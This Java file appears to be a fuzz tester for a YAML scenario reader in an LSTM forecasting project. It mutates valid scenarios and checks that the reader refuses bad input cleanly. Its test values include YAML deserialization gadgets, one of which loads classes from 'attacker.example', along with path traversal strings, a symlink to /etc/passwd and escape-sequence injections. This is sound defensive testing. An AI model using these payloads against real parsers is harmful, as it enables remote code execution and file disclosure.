package io.github.lstmforecast.scenario;

import io.github.lstmforecast.Damage;
import io.github.lstmforecast.SafeText;
import io.github.lstmforecast.dl4j.file.BadModels;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Reads thousands of scenarios, each made wrong in a few places, and prints how they were taken. Anything but a
 * {@link ScenarioException} with a message on one line ends it, and so does one that takes longer than a minute.
 */
final class ScenarioFuzz {
    private static final long MOST_SECONDS = 60;
    private static final int ROWS = 200;
    private static final String SYNTAX = "{}[]\":',0123456789.eE-+ \n\t&*!|>?%@`#~<=";
    private static final Pattern VALUE = Pattern.compile("(?<=[:,\\[-] )[^ \\n{}\\[\\],][^\\n{}\\[\\],]*");
    private static final Pattern KEY = Pattern.compile("[A-Za-z0-9]+(?=:)");

    /** With every key there is. */
    private static final List<String> SOUND = List.of("""
            signal: { pulse: {} }
            """, """
            signal:
              pulse:
                period: 12.5
                width: 4
                phase: 0.25
                length: 150
                noise: 0.02
                seed: -7
            model:
              train:
                recipe: keras-stateful
                engine: jvm
                units: [8, 6]
                gateActivation: hard-sigmoid
                copies: 2
                window: 30
                epochs: 17
                optimizer: { adam: { learningRate: 0.01, beta1: 0.8, beta2: 0.9, epsilon: 1e-3 } }
                learningRateDecay: 0.5
                gradientNorm: 2
                inputNoise: 0.3
                stateReset: each-epoch
                seed: 9223372036854775807
            forecast: { warmUp: 40, horizon: 60, from: 300 }
            tolerance: { nrmse: 0.3, phaseDrift: -0.01..0.02, flat: none, periodRatio: 0.9..1.1, r2: 0.5 }
            """, """
            signal:
              csv:
                file: series.csv
                column: [first, second]
                header: true
                date: date
                period: 10
                train: 2001-01-01..100
            model:
              train:
                copies: 1
                window: 5
                optimizer:
                  rmsprop:
                    learningRate: 0.002
                    rho: 0.8
                    epsilon: 1e-6
            forecast:
              warmUp: 10
              horizon: 5
              from: 2001-04-11
              every: 7
              origins: 5
            tolerance:
              mae: 3
              validSteps: 20
              skill: none
            seeds:
              count: 29
              passProbability: 0.9
            """, """
            signal: { csv: { file: series.csv, column: 2 } }
            model: { train: { copies: 1, window: 5, optimizer: { sgd: { learningRate: 0.1, momentum: 0.5 } } } }
            forecast: { from: [120, 2001-05-21, 150], horizon: 20 }
            golden: { weights: exact, outputs: 1e-6, absolute: 0, relative: 0.1, floor: 0.01, suspiciousImprovement: 0.5 }
            """, """
            signal: { csv: { file: series.csv, column: [first, second] } }
            model:
              load: model.zip
            forecast: { horizon: 20 }
            golden:
              weights: none
            """, """
            signal: { csv: { file: series.csv, column: [first, second] } }
            model: { train: { engine: dl4j, network: model.zip, window: 5, copies: 1, epochs: 3 } }
            """, """
            { "signal": { "pulse": { "period": 10 } }, "model": { "train": { "units": [ 20 ], "epochs": 150 } },
              "forecast": { "horizon": 50 }, "tolerance": { "nrmse": 0.2 }, "seeds": { "count": 30 } }
            """);

    private static final List<String> VALUES = List.of(
            "0",
            "-1",
            "1",
            "2",
            "0.5",
            "100000",
            "2147483647",
            "2147483648",
            "-2147483648",
            "999999999",
            "9223372036854775807",
            "9223372036854775808",
            "1e9",
            "1e308",
            "1e309",
            "-1e308",
            "5e-324",
            "1e-400",
            "-0",
            "-0.0",
            "9".repeat(400),
            "0." + "3".repeat(400),
            "1e" + "9".repeat(50),
            ".nan",
            ".inf",
            "-.inf",
            "NaN",
            "Infinity",
            "0x1p3",
            "0x10",
            "0o17",
            "017",
            "1d",
            "1_000",
            "1,000",
            "1%",
            "true",
            "yes",
            "null",
            "~",
            "''",
            "\"\"",
            "none",
            "exact",
            "..",
            "0..",
            "..0",
            "1..0",
            "0...1",
            "0..1..2",
            "1e309..2",
            "0..999999999",
            "2001-01-01",
            "2001-01-01..2001-03-01",
            "9999-12-31",
            "+999999999-12-31",
            "[]",
            "{}",
            "[1, 1]",
            "[[1]]",
            "[{}]",
            "{ a: 1 }",
            "[" + "1, ".repeat(200) + "1]",
            "[150, 150]",
            "[first, first]",
            "[first, 2]",
            "*a",
            "&a 1",
            "&a [*a]",
            "&a { pulse: *a }",
            "<<",
            "!!str 10",
            "!!int '10'",
            "!!float 10",
            "!!binary aGVsbG8=",
            "!!set { a, b }",
            "!!java.lang.ProcessBuilder [touch]",
            "!!javax.script.ScriptEngineManager [ !!java.net.URLClassLoader [[ !!java.net.URL ['http://attacker.example/'] ]] ]",
            "!local x",
            "! x",
            "!<tag:yaml.org,2002:int> 3",
            "'../../../../outside.csv'",
            "../outside.zip",
            "/etc/passwd",
            "/dev/zero",
            "link.csv",
            ".",
            "'a\u0000b'",
            "\"a\\0b\"",
            "\"\\e[31m\\n[INFO]\\u202E\"",
            "\uD83D\uDE00\u200D\uFEFF",
            "x".repeat(3000),
            "|\n  text\n",
            ">-\n  text\n",
            "? a",
            "- 1",
            "# comment",
            "%YAML 1.2",
            "@",
            "`",
            "'",
            "\"",
            "{",
            "[".repeat(300),
            "{a: ".repeat(300),
            "\t");

    private final Random random;
    private final Damage damage;
    private final List<String> keys;
    private volatile long began;

    private ScenarioFuzz(long seed) {
        random = new Random(seed);
        damage = new Damage(random, SYNTAX);
        keys = SOUND.stream()
                .flatMap(text -> KEY.matcher(text).results().map(MatchResult::group))
                .distinct()
                .toList();
    }

    public static void main(String[] args) throws Exception {
        new ScenarioFuzz(Long.parseLong(args[1])).run(Integer.parseInt(args[0]), Path.of(args[2]));
    }

    private void run(int scenarios, Path base) throws Exception {
        Path folder = Files.createDirectories(base.resolve("src/forecast/fuzzed"));
        Files.writeString(
                folder.resolve("series.csv"),
                IntStream.range(0, ROWS)
                        .mapToObj(row -> LocalDate.parse("2001-01-01").plusDays(row) + "," + row % 10 + "," + row % 5)
                        .collect(Collectors.joining("\n", "date,first,second\n", "\n")));
        Files.write(folder.resolve("model.zip"), BadModels.ofTwoInputs());
        Files.createSymbolicLink(folder.resolve("link.csv"), Path.of("/etc/passwd"));
        for (String sound : SOUND) { // so it is the change that is refused
            Files.writeString(folder.resolve("scenario.yaml"), sound);
            ScenarioReader.read(base, folder);
        }
        Map<String, Integer> ends = new TreeMap<>();
        for (int i = 0; i < scenarios; i++) {
            byte[] scenario = wrong(SOUND.get(random.nextInt(SOUND.size())));
            Files.write(folder.resolve("scenario.yaml"), scenario);
            watch(scenario);
            ends.merge(end(base, folder, scenario), 1, Integer::sum);
        }
        ends.forEach((end, count) -> System.out.println(count + " " + end));
    }

    private void watch(byte[] scenario) {
        boolean isFirst = began == 0;
        began = System.nanoTime();
        if (isFirst) {
            Thread watch = new Thread(() -> {
                while (System.nanoTime() - began < TimeUnit.SECONDS.toNanos(MOST_SECONDS)) {
                    Thread.onSpinWait();
                    try {
                        TimeUnit.SECONDS.sleep(1);
                    } catch (InterruptedException e) {
                        throw new IllegalStateException("nobody interrupts this thread", e);
                    }
                }
                System.out.println("it takes too long to read the last scenario");
                Runtime.getRuntime().halt(1);
            });
            watch.setDaemon(true);
            watch.start();
        }
    }

    private static String end(Path base, Path folder, byte[] scenario) {
        try {
            ScenarioReader.read(base, folder);
            return "read";
        } catch (ScenarioException e) {
            String message = e.getMessage();
            boolean isGood = e.problems().stream()
                    .allMatch(
                            problem -> (problem.startsWith("src/forecast/fuzzed/") || problem.matches("and \\d+ more"))
                                    && SafeText.isPlain(problem)
                                    && problem.length() <= 2000);
            if (!isGood || e.problems().isEmpty()) {
                throw new IllegalStateException("no good message: " + message);
            }
            return message.contains("not YAML") || message.contains("not UTF-8")
                    ? "refused as YAML"
                    : "refused as a scenario";
        } catch (RuntimeException | StackOverflowError e) {
            System.out.println(new String(scenario, StandardCharsets.UTF_8));
            throw e;
        }
    }

    /** One that is wrong in its structure, in its text, or in its bytes. */
    private byte[] wrong(String sound) {
        String text = sound;
        if (random.nextInt(4) > 0) {
            for (int i = 1 + random.nextInt(3); i > 0; i--) {
                text = changed(text);
            }
            return text.getBytes(random.nextInt(50) == 0 ? StandardCharsets.UTF_16LE : StandardCharsets.UTF_8);
        }
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        return random.nextBoolean() ? damage.text(bytes) : damage.bytes(bytes);
    }

    private String changed(String text) {
        String value = VALUES.get(random.nextInt(VALUES.size()));
        String key = keys.get(random.nextInt(keys.size()));
        List<String> lines = new ArrayList<>(Arrays.asList(text.split("\n", -1)));
        int line = random.nextInt(lines.size());
        switch (random.nextInt(12)) {
            case 0, 1, 2, 3, 4 -> {
                return replaced(VALUE, text, value);
            }
            case 5 -> {
                return replaced(KEY, text, random.nextBoolean() ? key : value);
            }
            case 6 -> lines.add(line, " ".repeat(random.nextInt(8)) + key + ": " + value);
            case 7 -> lines.remove(line);
            case 8 -> lines.add(random.nextInt(lines.size()), lines.get(line));
            case 9 -> Collections.swap(lines, line, random.nextInt(lines.size()));
            case 10 ->
                lines.set(
                        line,
                        random.nextBoolean()
                                ? " " + lines.get(line)
                                : lines.get(line).strip());
            default -> {
                return text + (random.nextBoolean() ? "---\n" + text : key + ": " + value + "\n");
            }
        }
        return String.join("\n", lines);
    }

    /** One of the matches becomes something else. */
    private String replaced(Pattern what, String text, String by) {
        List<MatchResult> matches = what.matcher(text).results().toList();
        if (matches.isEmpty()) {
            return text;
        }
        MatchResult match = matches.get(random.nextInt(matches.size()));
        return text.substring(0, match.start()) + by + text.substring(match.end());
    }
}
